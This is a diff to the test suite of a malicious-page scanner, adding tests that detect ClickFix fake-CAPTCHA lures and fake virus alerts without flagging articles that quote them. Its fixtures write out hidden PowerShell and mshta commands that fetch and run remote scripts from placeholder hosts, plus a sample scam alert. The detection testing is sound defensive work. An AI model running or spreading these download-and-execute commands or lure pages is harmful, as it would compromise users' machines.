@@ -33,6 +33,28 @@ describe('malicious behaviour', () => {
     expect(rightClick).toBeGreaterThan(0);
   });
 
+  it('flags paste-into-PowerShell instructions with a copied command, but not an article quoting ClickFix steps', () => {
+    const lure = `<h1>The document could not be displayed</h1><p>Open PowerShell and paste the fix into the PowerShell window, then press Enter.</p>${script(
+      'fix.onclick = () => navigator.clipboard.writeText("mshta https://fix.example/u.hta")',
+    )}`;
+    expect(scoreOf(check(lure), 'page_fake_captcha')).toBeGreaterThanOrEqual(90);
+    const filler = '<p>Information stealers delivered this way upload browser passwords and session cookies within minutes. </p>'.repeat(
+      20,
+    );
+    const article = `<h1>How ClickFix works</h1><blockquote>Verify you are human: press Windows Key + R, then CTRL + V and Enter.</blockquote>
+      <p>The fake CAPTCHA tells visitors to press Win+R and paste the command.</p>${filler}
+      <pre><code>powershell -w hidden -c "iwr hxxps://example[.]invalid/v.ps1 | iex"</code></pre>${script(
+        "document.querySelectorAll('pre').forEach((b) => b.onclick = () => navigator.clipboard.writeText(b.innerText))",
+      )}`;
+    expect(scoreOf(check(article), 'page_fake_captcha')).toBe(0);
+  });
+
+  it('does not take a quoted fake virus alert for the alert itself', () => {
+    const alert = 'Windows Defender security alert: your computer has been infected with a trojan. Call support now at 1-888-555-0199.';
+    expect(scoreOf(check(`<p>${alert}</p>`), 'page_tech_support_scam')).toBeGreaterThanOrEqual(80);
+    expect(scoreOf(check(`<p>Scam pages show text like this:</p><blockquote>${alert}</blockquote>`), 'page_tech_support_scam')).toBe(0);
+  });
+
   it('flags a ClickFix fake CAPTCHA as decisive', () => {
     const body = `<h1>Verify you are human</h1><ol><li>Press Windows Key + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>${script(
       'navigator.clipboard.writeText("powershell -w hidden -c iwr https://x.example/a.ps1 | iex")',
